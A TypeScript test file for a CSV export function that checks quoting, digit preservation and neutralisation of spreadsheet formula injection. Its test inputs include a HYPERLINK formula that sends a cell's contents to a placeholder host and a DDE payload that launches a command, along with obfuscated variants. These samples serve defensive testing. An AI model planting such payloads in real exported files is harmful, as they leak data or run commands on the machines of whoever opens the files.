import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { readFile } from '../../../src/lists/files/read-file.ts'
import { csvOf } from '../../../src/lists/files/written-csv.ts'

/** Cells as a program reads them. */
const parsed = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: true })

test('rows with quotation marks and line breaks are written to CSV so that they read back the same', () => {
  const csv = csvOf([
    ['Number', 'GB', 'Note'],
    ['BUD-API-X7-1', 2.5, 'said "yes", twice\nor so'],
    [null, -23.5, ''],
  ])
  expect(csv.startsWith('\ufeffNumber,GB,Note\r\n')).toBe(true)
  expect(parsed(csv)).toEqual([
    ['Number', 'GB', 'Note'],
    ['BUD-API-X7-1', '2.5', 'said "yes", twice\nor so'],
    ['', '-23.5', ''],
  ])
})

test.each(['0', '0.5', '23.50', '5GB', '241234567'])('the cell “%s” is written to CSV unchanged', (text) => {
  expect(parsed(csvOf([[text]]))).toEqual([[text]])
})

test.each(['0241234567', '00233241234567', '123456789012'])(
  'the number %s keeps its digits when a spreadsheet opens the CSV file',
  (text) => {
    expect(parsed(csvOf([[text]]))).toEqual([[`="${text}"`]])
  },
)

describe('a CSV cell that a spreadsheet would take for a formula', () => {
  test.each([
    '=1+1',
    '+1+1',
    '+233241234567',
    '-1+1',
    '@SUM(A1)',
    '=HYPERLINK("https://x.example?"&A1,"press")',
    ' =1',
    '＝1+1',
    '＠x',
    '="0241234567"&A1',
    "=cmd|'/c calc'!A1",
  ])('is written as text: %j', (text) => {
    expect(parsed(csvOf([[text]]))).toEqual([[`'${text}`]])
  })

  test.each([
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    ['\n=1', "'\n'=1"],
    ['Kofi;=1', "Kofi;'=1"],
    ['Kofi; "+1', 'Kofi; "\'+1'],
    ['Kofi; Ama', 'Kofi; Ama'],
  ])('is written as text, also between semicolons and tabs: %j', (text, written) => {
    expect(parsed(csvOf([[text]]))).toEqual([[written]])
  })

  test('is never written as a formula, whatever the text', () => {
    const start = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\n', ' ', '0', '"', ',')
    const text = fc.tuple(start, start, fc.string({ maxLength: 20 })).map((parts) => parts.join(''))
    fc.assert(
      fc.property(text, (each) => {
        const [[cell = ''] = []] = parsed(csvOf([[each, 'end']]))
        const words = /^="(\d+)"$/.exec(cell)?.[1] ?? cell
        expect(words).not.toMatch(/^\s*[=+\-@＝＋－＠]/)
        expect(words.replaceAll("'", '')).toBe(each.replaceAll("'", ''))
      }),
    )
  })
})

test('the CSV that the bot wrote is read back by the bot’s own reader', async () => {
  const csv = csvOf([
    ['Number', 'GB'],
    ['0241234567', 5],
    ['0559876543', 2.5],
  ])
  const reading = await readFile({ name: 'export.csv', mimeType: 'text/csv', bytes: Buffer.from(csv) })
  expect(reading).toMatchObject({ text: 'Number\tGB\n0241234567\t5\n0559876543\t2.5', rows: 3 })
})
